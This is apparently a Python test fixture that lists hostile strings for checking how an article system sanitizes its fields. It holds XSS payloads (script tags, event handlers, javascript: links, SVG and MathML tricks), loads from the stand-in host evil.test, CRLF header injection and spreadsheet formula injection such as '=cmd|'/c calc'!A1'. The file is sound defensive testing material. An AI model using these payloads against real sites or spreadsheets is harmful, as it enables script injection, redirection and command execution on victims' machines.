"""Texts that an article's fields may bring: to run, to load, to lead away, to break out, or to turn the page.

Each is short enough to stand whole in every list and facet; `<x-evil>` and the attribute of that name show
where one of them has become markup.
"""

RUN = "window.__ran=1;alert(1)"
EVIL = "//evil.test"
LONG = 5_000_000
TURNING = (
    "\u202e\u202d\u202b\u2066\u2067\u2068\u200f\u061c"  # overrides, embeddings, isolates; none is closed
)

TEXTS: dict[str, str] = {
    "script": f"<x-evil></x-evil><script>{RUN}</script>",
    "script that ends another": f"</script><x-evil><script>{RUN}</script>",
    "script from elsewhere": f"<script x-evil src={EVIL}/a.js></script>",
    "script in odd case": f"<ScRiPt\n x-evil>{RUN}</sCrIpT\t>",
    "end of the title": f"</title></textarea></style></script><x-evil><script>{RUN}</script>",
    "end of a comment": f"--><x-evil><img src=x onerror={RUN}><!--",
    "end of CDATA": f"]]><x-evil xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script>",
    "event handler": f'<img x-evil src=x onerror="{RUN}">',
    "event handler of a frame": f'<body x-evil onload="{RUN}"><frameset onload="{RUN}">',
    "event handler that needs nobody": f"<details x-evil open ontoggle='{RUN}'><input autofocus onfocus='{RUN}'>",
    "end of an attribute": f"\" x-evil onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" a=\"",
    "end of a quoted attribute": f"' x-evil onmouseover='{RUN}' autofocus onfocus='{RUN}' a='",
    "end of a bare attribute": f"x x-evil onmouseover={RUN} autofocus onfocus={RUN}",
    "backticks": f"`x-evil onerror=`{RUN}`",
    "javascript link": f"javascript:{RUN}//http://a.test/",
    "javascript link with a tab": f" \x01java\tscript:{RUN}",
    "javascript link in markup": f'<a x-evil href="javascript:{RUN}">đọc</a> [đọc](javascript:{RUN})',
    "data link": f"data:text/html,<script>{RUN}</script>",
    "link with a name and a password": "https://backan.gov.vn@evil.test/\"><x-evil>",
    "svg": f"<svg x-evil onload='{RUN}'><script>{RUN}</script><image href={EVIL}/i.png /></svg>",
    "svg that animates": f"<svg x-evil><a><animate attributeName=href values='javascript:{RUN}' /><text y=9>x</text></a></svg>",
    "math": f"<math x-evil><mtext><table><mglyph><style><!--</style><img src=x onerror='{RUN}'>",
    "meta refresh": f"<meta x-evil http-equiv=refresh content='0;url=http:{EVIL}/'>",
    "form": f"<form x-evil action={EVIL} id=f><input name=q></form><button form=f formaction='javascript:{RUN}'>Tìm</button>",
    "base": f"<base x-evil href=http:{EVIL}/ target=_top>",
    "frame": f"<iframe x-evil src={EVIL}></iframe><iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "object": f"<object x-evil data={EVIL}></object><embed src={EVIL}/e>",
    "image": f"<img x-evil src=http:{EVIL}/1.png srcset='http:{EVIL}/2.png 1x'><video poster={EVIL}/3.png>",
    "links of the head": f"<link x-evil rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/b>",
    "style": "<style x-evil>*{position:fixed;inset:0;background:red}</style>",
    "style attribute": f"<p x-evil style=\"position:fixed;inset:0;z-index:9999;background:url({EVIL}/1)\">",
    "entities": f"&lt;img x-evil src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "templates": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %><template x-evil shadowrootmode=open>x</template>",
    "end of the body": f"</main></body></html><x-evil><script>{RUN}</script>",
    "null bytes": f"<scr\0ipt>{RUN}</scr\0ipt><img\0x-evil src=x onerror={RUN}>",
    "line ends": f"x\r\nSet-Cookie: stolen=1\r\n\r\n<x-evil><script>{RUN}</script>\u2028{RUN}\u2029",
    "right to left": f"{TURNING}abc </x-evil>",
    "closed too often": "\u202c\u2069\u202c\u2069 \u05d0\u05d1\u05d2 123 \u0645\u0631\u062d\u0628\u0627 !",
    "wide": "W" * 3_000,
    "marks upon marks": "Z" + "\u0336\u0353\u0310\u0325" * 300,
    "formula": "=cmd|'/c calc'!A1",
    "formula behind blanks": " \t=HYPERLINK(\"http://evil.test\",\"đọc\")",
    "formula behind a line end": "\r\n@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind quotes": "\"=1+1\"\n'=2+2",
    "formula in full width": "\uff1d1+1",
    "formula behind a separator": "a;=1+1,=2+2\t=3+3",
    "formula behind an invisible character": "\u200b\ufeff\u00a0=1+1",
    "formula that subtracts": "-2+3+cmd|' /C calc'!A0",
}  # fmt: skip
